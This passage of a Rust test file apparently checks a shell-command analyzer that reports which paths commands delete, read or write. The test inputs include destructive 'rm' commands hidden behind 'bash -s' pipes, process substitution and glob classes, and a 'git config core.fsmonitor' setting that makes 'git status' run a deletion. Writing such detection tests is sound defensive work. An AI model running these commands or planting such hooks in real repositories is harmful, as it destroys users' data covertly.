        };
        assert!(is_any(Kind::Delete), "{line}: {all:?}");
    }
    let told = done("awk -F\"$S\" -v n=\"$N\" '{print n}' f").effects;
    assert!(
        !told.iter().any(|effect| effect.kind == Kind::Delete),
        "{told:?}"
    );
}

#[test]
fn a_shell_that_reads_its_input_has_the_words_behind_it_as_arguments() {
    does("bash -s x <<< 'rm $1'", &["d/p/x"]);
    does("echo 'rm \"$@\"' | bash -s -- x y", &["d/p/x", "d/p/y"]);
    does("rm $(< <(echo x))", &["d/p/x"]);
}

#[test]
fn a_class_in_a_set_is_any_letter() {
    for line in ["rm [[:alpha:]]x", "rm []a]x", "rm [[=a=]]x", "rm [!]a]x"] {
        let all = done(line).effects;
        let pattern = Object::Pattern("/p/?x".into());
        assert!(
            all.iter()
                .any(|effect| effect.kind == Kind::Delete && effect.object == pattern),
            "{line}: {all:?}"
        );
    }
}

#[test]
fn a_new_branch_changes_no_file_and_a_setting_that_runs_something_is_read() {
    does("git switch -c new", &[]);
    does("git apply --check p.diff", &["r/p/p.diff"]);
    does(
        "git config core.fsmonitor 'rm x'; git status",
        &["~w/p/.git/config", "d/p/x"],
    );
}
